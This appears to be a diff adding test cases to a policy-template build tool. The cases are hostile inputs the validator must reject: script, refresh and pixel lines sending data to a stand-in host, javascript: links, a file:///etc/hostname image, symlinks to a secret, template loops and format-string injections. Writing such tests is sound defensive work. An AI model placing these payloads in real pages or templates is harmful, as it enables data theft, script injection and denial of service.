@@ -280,8 +280,42 @@ def policy_with(extra: str) -> str:
     return head + sep + clause + blank + body + " " + extra + blank2 + tail
 
 
+def policy_line(extra: str) -> str:
+    """ "line N" where `extra` lands in policy_with(extra)."""
+    made = policy_with(extra)
+    return f"line {made[:made.index(extra)].count(chr(10)) + 1}"
+
+
+RAW_HTML = "it has raw HTML"
+SCRIPT = '<script>location = "https://exfil.invalid/?" + document.title</script>'
+REFRESH = '<meta http-equiv="refresh" content="0; url=https://exfil.invalid/">'
+PIXEL = '<img src="https://exfil.invalid/pixel.gif">'
+# What a group's policy text may not hold (see handbook/policy/markup.py), each with its one sentence.
+MARKUP_CASES: dict[str, Case] = {
+    "a script": case(policy_with(SCRIPT), policy_line(SCRIPT), RAW_HTML),
+    "a refresh to another site": case(policy_with(REFRESH), policy_line(REFRESH), RAW_HTML),
+    "a picture that carries data away": case(policy_with(PIXEL), policy_line(PIXEL), RAW_HTML),
+    "a closing tag": case(policy_with("</div>"), policy_line("</div>"), RAW_HTML),
+    "an HTML comment": case(policy_with("<!-- hidden -->"), policy_line("<!-- hidden -->"), RAW_HTML),
+    "an event handler as an attribute list": case(policy_with('[x](#top){ onclick="alert(1)" }'),
+                                                  policy_line("[x](#top)"), "a { or } outside {{ ... }}"),
+    "a javascript: link": case(policy_with("[help](javascript:alert(1))"), policy_line("[help]"),
+                               "it links to a javascript: address"),
+    "a data: link": case(policy_with("[help](data:text/html,x)"), policy_line("[help]"), "a data: address"),
+    "a script through | safe": case(policy_with('{{ "<script>alert(1)</script>" | safe }}'),
+                                    "clause 1", RAW_HTML, "{{ ... }} part"),
+    **{f"a picture from {where}": case(policy_with(f"![Our logo]({address})"), policy_line("![Our logo]"),
+                                      "it shows a picture from another place")
+       for where, address in (("another site", "https://example.org/logo.png"), ("the disk", "file:///etc/hostname"),
+                              ("a host named without a scheme", "//example.org/a.png"),
+                              ("a data: address", "data:image/png;base64,iVBORw0KGgo="))},
+    "a script written as escapes through | safe": case(policy_with('{{ "\\x3cscript>x" | safe }}'), RAW_HTML),
+}
+
+
 # A group's own policy text (policy/1.1.md beside its group.yml), which is a template too.
 POLICY_CASES: dict[str, Case] = {
+    **MARKUP_CASES,
     "a loop inside a loop": case(policy_with("{% for i in range(9999) %}{% for j in range(9999) %}"
                                              "{% endfor %}{% endfor %}"), "did not finish within 5 seconds"),
     "a macro that calls itself": case(policy_with("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"),
@@ -289,4 +323,48 @@ POLICY_CASES: dict[str, Case] = {
     "text repeated ten billion times": case(policy_with('{{ "x" * 10**10 }}'), "repeats something"),
     "Latin-1 bytes": case(policy_with("Zoë").encode("latin-1"), "the policy text is not UTF-8 text"),
     "a policy of two megabytes": case(POLICY + "x" * 2_000_000, "at most 1,048,576 are allowed"),
+}
+
+
+# Files of a group's folder that are not what they seem (git keeps symlinks; a pull request can add
+# one): each place a build reads, and what is put there instead of an ordinary file of its own.
+SECRET = "hunter2-this-is-the-deploy-token"
+PLACES = {  # where, as the message names it
+    "group.yml": "group.yml",
+    "policy/1.1.md": "policy/1.1.md",
+    "my-sections/police.yml": "my-sections/police.yml",
+    "my-quiz.yml": "my-quiz.yml",
+    "my-templates/documents/consent-form.html": "my-templates/documents/consent-form.html",
+}
+KINDS = {  # what is there instead, and the words that explain it
+    "a link to a secret outside": ("secret", "is a link to a place outside"),
+    "a link to /dev/zero": ("/dev/zero", "is a link to a place outside"),
+    "a pipe": ("fifo", "is not an ordinary file"),
+    "a broken link": ("nowhere", "is a link to a file that does not exist"),
+}
+FILE_CASES = {f"{where}: {kind}": (where, *KINDS[kind]) for where in PLACES for kind in KINDS}
+
+
+QUIZ_SITUATION = """\
+scenarios:
+  - name: The police ask.
+    checker: sharing
+    answers: {about: service_user, requester: police, information: contact_details, circumstances: []}
+    choices:
+      - {text: "Tell {manager}.", decision: share}
+      - {text: Ask the guest., decision: get_consent}
+      - {text: Pass it on., decision: pass_to_person_in_authority}
+"""
+PLAIN_WORD = "a placeholder may only be a plain word in braces"
+# A trainers' my-quiz.yml whose words would make a huge text or reach into Python when filled in.
+QUIZ_CASES: dict[str, Case] = {
+    "a format width of three million": case(QUIZ_SITUATION.replace("{manager}", "{manager:>3000000}"),
+                                            "line 2", "choice A", PLAIN_WORD),
+    "a width inside a width": case(QUIZ_SITUATION.replace("{manager}", "{manager:{manager}>9}"), "line 2", PLAIN_WORD),
+    "a conversion": case(QUIZ_SITUATION.replace("{manager}", "{manager!a}"), "line 2", PLAIN_WORD),
+    "an attribute": case(QUIZ_SITUATION.replace("{manager}", "{manager.__class__.__mro__}"), "line 2", PLAIN_WORD),
+    "a width in the situation": case(QUIZ_SITUATION.replace("The police ask.", "The police ask {name:^999999}."),
+                                     "line 2", PLAIN_WORD),
+    "a choice of 100,000 characters": case(QUIZ_SITUATION.replace("Ask the guest.", "x" * 100_000),
+                                           "choice B: the text is 100,000 characters; at most 400"),
 }
